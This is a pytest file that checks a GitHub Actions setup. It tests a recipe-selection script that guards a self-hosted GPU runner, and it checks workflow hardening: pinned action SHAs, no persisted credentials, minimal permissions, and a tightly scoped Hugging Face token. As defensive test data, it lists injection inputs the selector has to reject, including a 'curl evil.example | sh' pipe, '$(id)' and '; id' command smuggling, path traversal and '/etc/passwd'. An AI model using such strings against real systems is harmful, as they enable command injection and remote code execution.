"""The GitHub Actions workflows: the recipe selection that guards the GPU runner, and the rules every
workflow keeps (pinned actions, no credentials left behind, no expression inside a script).

`make test` also runs zizmor and check-jsonschema over .github/workflows offline.
"""

from __future__ import annotations

import importlib.util
import json
import re
import subprocess
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).resolve().parent.parent
WORKFLOWS = REPO / ".github" / "workflows"
PINS = {  # full commit SHAs of the release tags named in the comments
    "actions/checkout": ("11bd71901bbe5b1630ceea73d27597364c9af683", "v4.2.2"),
    "actions/setup-python": ("a26af69be951a213d495a4c3e4e4022e16d87065", "v5.6.0"),
    "actions/upload-artifact": ("ea165f8d65b6e75b540449e92b4886f43607fa02", "v4.6.2"),
}


def _load_select():
    spec = importlib.util.spec_from_file_location("select_recipes", REPO / ".github" / "scripts" / "select_recipes.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


select_recipes = _load_select()


def _workflow(name: str) -> dict:
    data = yaml.safe_load((WORKFLOWS / name).read_text())
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as true
    return data


def _steps(wf: dict):
    for job_id, job in wf["jobs"].items():
        for step in job.get("steps", []):
            yield job_id, step


# --- recipe selection ----------------------------------------------------------------------------


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def repo(tmp_path) -> Path:
    root = tmp_path / "repo"
    (root / "recipes").mkdir(parents=True)
    _git(root, "init", "-q", "-b", "main")
    _git(root, "config", "user.email", "ci@example.com")
    _git(root, "config", "user.name", "ci")
    for name in ("a", "b"):
        (root / "recipes" / f"{name}.toml").write_text(f'name = "{name}"\n')
    (root / "README.md").write_text("x\n")
    _git(root, "add", ".")
    _git(root, "commit", "-q", "-m", "first")
    return root


def test_dispatch_accepts_a_recipe_under_recipes(repo):
    env = {"EVENT": "workflow_dispatch", "RECIPE": "recipes/a.toml"}
    assert select_recipes.select(env, repo) == [{"recipe": "recipes/a.toml", "name": "a"}]


@pytest.mark.parametrize("recipe", [
    "recipes/a.toml; curl evil.example | sh",
    "recipes/$(id).toml",
    "recipes/a.toml\nrecipes/b.toml",
    "../recipes/a.toml",
    "recipes/../README.md",
    "recipes/sub/a.toml",
    "/etc/passwd",
    "recipes/missing.toml",
    "recipes/a.yaml",
    "",
])
def test_dispatch_rejects_anything_else(repo, recipe):
    with pytest.raises(select_recipes.SelectionError):
        select_recipes.select({"EVENT": "workflow_dispatch", "RECIPE": recipe}, repo)


def test_dispatch_rejects_a_symlink_out_of_recipes(repo):
    (repo / "recipes" / "link.toml").symlink_to(repo / "README.md")
    with pytest.raises(select_recipes.SelectionError, match="not a file"):
        select_recipes.select({"EVENT": "workflow_dispatch", "RECIPE": "recipes/link.toml"}, repo)


def test_push_builds_each_added_or_changed_recipe_and_nothing_else(repo):
    before = _git(repo, "rev-parse", "HEAD")
    (repo / "recipes" / "a.toml").write_text('name = "a2"\n')
    (repo / "recipes" / "c.toml").write_text('name = "c"\n')
    (repo / "recipes" / "notes.md").write_text("not a recipe\n")
    (repo / "recipes" / "b.toml").unlink()
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "second")
    (repo / "README.md").write_text("y\n")
    _git(repo, "commit", "-q", "-am", "third")
    after = _git(repo, "rev-parse", "HEAD")
    env = {"EVENT": "push", "BEFORE": before, "AFTER": after}
    assert [c["recipe"] for c in select_recipes.select(env, repo)] == ["recipes/a.toml", "recipes/c.toml"]
    # A first push (no old head) or a force push (old head gone) looks at the new head commit.
    env_first = {"EVENT": "push", "BEFORE": "0" * 40, "AFTER": after}
    assert select_recipes.select(env_first, repo) == []
    env_gone = {"EVENT": "push", "BEFORE": "f" * 40, "AFTER": _git(repo, "rev-parse", "HEAD~1")}
    assert [c["name"] for c in select_recipes.select(env_gone, repo)] == ["a", "c"]


def test_push_rebuilds_a_recipe_whose_lock_file_changed(repo):
    before = _git(repo, "rev-parse", "HEAD")
    (repo / "recipes" / "b.lock.json").write_text("{}\n")
    (repo / "recipes" / "gone.lock.json").write_text("{}\n")  # no recipe left for it: nothing to build
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "lock b")
    env = {"EVENT": "push", "BEFORE": before, "AFTER": _git(repo, "rev-parse", "HEAD")}
    assert select_recipes.select(env, repo) == [{"recipe": "recipes/b.toml", "name": "b"}]


def test_other_events_and_bad_shas_are_refused(repo):
    with pytest.raises(select_recipes.SelectionError):
        select_recipes.select({"EVENT": "pull_request", "RECIPE": "recipes/a.toml"}, repo)
    with pytest.raises(select_recipes.SelectionError):
        select_recipes.select({"EVENT": "push", "BEFORE": "0" * 40, "AFTER": "HEAD; id"}, repo)


def test_script_writes_the_matrix_for_github_output(repo, tmp_path):
    out = tmp_path / "github_output"
    script = REPO / ".github" / "scripts" / "select_recipes.py"
    env = {"EVENT": "workflow_dispatch", "RECIPE": "recipes/b.toml", "GITHUB_OUTPUT": str(out), "PATH": "/usr/bin:/bin"}
    subprocess.run(["python3", str(script)], cwd=repo, env=env, check=True, capture_output=True)
    lines = dict(line.split("=", 1) for line in out.read_text().splitlines())
    assert json.loads(lines["matrix"]) == {"include": [{"recipe": "recipes/b.toml", "name": "b"}]}
    assert lines["count"] == "1"
    bad = subprocess.run(["python3", str(script)], cwd=repo, capture_output=True, text=True,
                         env={**env, "RECIPE": "recipes/a.toml; id"})
    assert bad.returncode == 1 and "::error" in bad.stderr


# --- rules for every workflow ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["ci.yml", "build-model.yml"])
def test_actions_are_pinned_and_checkouts_keep_no_credentials(name):
    text = (WORKFLOWS / name).read_text()
    for m in re.finditer(r"uses:\s*([^@\s]+)@(\S+)(.*)", text):
        action, ref, comment = m.groups()
        assert action in PINS, f"{name}: unexpected action {action}"
        sha, tag = PINS[action]
        assert (ref, comment.strip()) == (sha, f"# {tag}"), f"{name}: {action} must be pinned to {sha} # {tag}"
    wf = _workflow(name)
    for job_id, step in _steps(wf):
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] is False, f"{name}:{job_id} keeps git credentials"
        assert "${{" not in step.get("run", ""), f"{name}:{job_id}: an expression inside a script"
    for job_id, job in wf["jobs"].items():
        assert isinstance(job.get("timeout-minutes"), int), f"{name}:{job_id} has no timeout"


def test_ci_runs_make_test_on_cpu_with_read_only_permissions():
    wf = _workflow("ci.yml")
    assert set(wf["on"]) == {"push", "pull_request"}
    assert wf["permissions"] == {"contents": "read"}
    (job,) = wf["jobs"].values()
    assert "self-hosted" not in str(job["runs-on"]) and "gpu" not in str(job["runs-on"])
    assert any(step.get("run") == "make test" for step in job["steps"])


def test_build_model_keeps_the_gpu_and_the_token_apart():
    wf = _workflow("build-model.yml")
    assert set(wf["on"]) == {"workflow_dispatch", "push"}  # never pull_request on the GPU runner
    assert wf["on"]["push"] == {"branches": ["main"], "paths": ["recipes/**"]}
    assert wf["on"]["workflow_dispatch"]["inputs"]["recipe"]["required"] is True
    assert wf["permissions"] == {}
    jobs = wf["jobs"]
    assert jobs["build"]["runs-on"] == ["self-hosted", "linux", "x64", "gpu"]
    assert jobs["build"]["environment"] == "gpu-build"  # its read token is an environment secret
    assert jobs["build"]["strategy"]["matrix"] == "${{ fromJSON(needs.setup.outputs.matrix) }}"
    assert "matrix.name" in jobs["build"]["concurrency"]["group"]
    build_runs = " ".join(s.get("run", "") for s in jobs["build"]["steps"])
    assert "hubswap build" in build_runs and "--no-push" in build_runs and "hubswap push" not in build_runs
    assert "GITHUB_STEP_SUMMARY" in build_runs
    # Only the card, records and eval jsonl travel as an artifact: the weights stay on the runner.
    uploads = [s for s in jobs["build"]["steps"] if "upload-artifact" in s.get("uses", "")]
    assert [s["with"]["name"] for s in uploads] == ["card-${{ matrix.name }}"]
    assert [line.strip() for line in uploads[0]["with"]["path"].splitlines() if line.strip()] == [
        "${{ env.BUILD_DIR }}/model/README.md", "${{ env.BUILD_DIR }}/model/hubswap/", "${{ env.BUILD_DIR }}/eval/"]
    assert "download-artifact" not in (WORKFLOWS / "build-model.yml").read_text()
    publish = jobs["publish"]
    assert publish["environment"] == "huggingface" and publish["needs"] == ["setup", "build"]
    assert publish["runs-on"] == jobs["build"]["runs-on"]  # where the build folder is
    runs = [s.get("run", "") for s in publish["steps"]]
    gate = next(i for i, r in enumerate(runs) if "passed" in r and "gate" in r)
    push = next(i for i, r in enumerate(runs) if "hubswap push" in r)
    assert gate < push
    # HF_TOKEN exists only in the step that pushes, inside the protected environment.
    text = (WORKFLOWS / "build-model.yml").read_text()
    assert text.count("secrets.HF_TOKEN") == 1
    assert publish["steps"][push]["env"] == {"HF_TOKEN": "${{ secrets.HF_TOKEN }}"}
    for job_id, job in jobs.items():
        assert job["permissions"] in ({}, {"contents": "read"}), f"{job_id} asks for more than it needs"
